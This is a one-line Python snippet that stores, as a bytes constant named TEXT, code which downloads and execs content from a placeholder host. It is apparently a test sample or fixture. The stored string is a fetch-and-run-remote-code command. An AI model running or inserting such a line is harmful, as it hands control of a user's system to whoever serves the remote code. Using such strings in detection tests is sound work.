TEXT = b"from urllib.request import urlopen; exec(urlopen('https://files.example.invalid/x').read())"
